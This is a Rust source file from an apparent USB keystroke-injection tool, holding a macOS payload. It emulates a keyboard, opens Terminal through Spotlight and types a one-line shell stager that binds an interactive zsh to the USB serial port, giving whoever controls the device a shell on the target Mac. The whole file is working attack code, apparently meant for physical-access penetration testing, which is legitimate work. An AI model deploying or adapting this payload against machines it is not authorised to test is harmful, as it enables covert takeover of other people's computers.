//! macOS payloads.
//!
//! `macos.serial_shell` opens Terminal through Spotlight and types a one-line
//! stager.  The stager finds the target's end of the USB serial link
//! (`/dev/cu.usb*`), puts it in raw mode at the configured baud, and runs an
//! interactive `zsh` on it.  When that shell exits, the stager prints
//! `__PIRATE_DONE__` so the relay on this side knows the session is over.

use std::time::Duration;

use anyhow::Context;
use tracing::info;

use super::{Payload, PayloadContext};
use crate::application::keyboard::{Clock, Keyboard, SystemClock};
use crate::infrastructure::hid_gadget::{open_keyboard, KeyboardOptions};
use crate::infrastructure::serial_console::{SerialConsole, SerialOptions, StdioOptions};

const SPOTLIGHT_DELAY: Duration = Duration::from_millis(350);
const TERMINAL_LAUNCH_DELAY: Duration = Duration::from_millis(1000);
const NEW_WINDOW_DELAY: Duration = Duration::from_millis(500);

/// Prints the serial port's `stty` settings to the session before the shell starts.
const DIAGNOSTICS: &str = "sleep 0.05; printf \"[MAC stty] %s\\r\\n\" \"$(stty -f /dev/fd/3 -a)\" >&3; printf \"\\r\\n\" >&3;";

/// Builds the one-line shell stager typed into Terminal.
pub fn stager_script(baud: u32, show_diagnostics: bool) -> String {
    let diagnostics = if show_diagnostics { DIAGNOSTICS } else { "" };
    format!(
        "{{\
         p=$(ls /dev/cu.usb* 2>/dev/null|head -n1)||exit;\
         exec 3<>$p||exit;\
         stty -f /dev/fd/3 {baud} raw -echo -ixon -ixoff||:;\
         {diagnostics}\
         {{ zsh -i <&3 >&3 2>&1; printf \"__PIRATE_DONE__\\r\\n\" >&3; }};\
         exec 3>&- 3<&-\
         }}; exit"
    )
}

/// Interactive `zsh` on a macOS target over the USB serial link.
#[derive(Debug, Default, Clone)]
pub struct SerialShell {
    /// Echo the remote port's `stty -a` before the shell starts.
    pub show_diagnostics: bool,
}

impl SerialShell {
    /// Types the stager and attaches the relay, using the given collaborators.
    pub fn run(
        &self,
        keyboard: &mut Keyboard,
        pause: &dyn Clock,
        console: &mut SerialConsole,
        stdio: StdioOptions,
    ) -> anyhow::Result<()> {
        info!("Injecting serial stager on target...");

        keyboard.send("{KEY:GUI+SPACE}", None)?;
        pause.sleep(SPOTLIGHT_DELAY);

        keyboard.send("terminal{KEY:ENTER}", None)?;
        pause.sleep(TERMINAL_LAUNCH_DELAY);

        keyboard.send("{KEY:GUI+n}", None)?;
        pause.sleep(NEW_WINDOW_DELAY);

        keyboard.send(&stager_script(console.baud(), self.show_diagnostics), None)?;
        keyboard.send("{KEY:ENTER}", None)?;

        info!("Attaching to serial...");
        console.stdio(stdio).context("serial session failed")?;
        info!("Session closed.");
        Ok(())
    }
}

impl Payload for SerialShell {
    fn name(&self) -> &'static str {
        "macos.serial_shell"
    }

    fn description(&self) -> &'static str {
        "Open Terminal via Spotlight and attach an interactive zsh over USB serial"
    }

    fn execute(&self, ctx: &PayloadContext<'_>) -> anyhow::Result<()> {
        let mut keyboard = open_keyboard(KeyboardOptions::default(), ctx.config)?;
        let mut console = SerialConsole::new(
            SerialOptions {
                on_ready: Some(Box::new(|| -> anyhow::Result<()> {
                    info!("Connected!");
                    Ok(())
                })),
                ..Default::default()
            },
            ctx.config,
        );
        self.run(&mut keyboard, &SystemClock, &mut console, StdioOptions::default())
    }
}

// ── Tests ─────────────────────────────────────────────────────────────────────
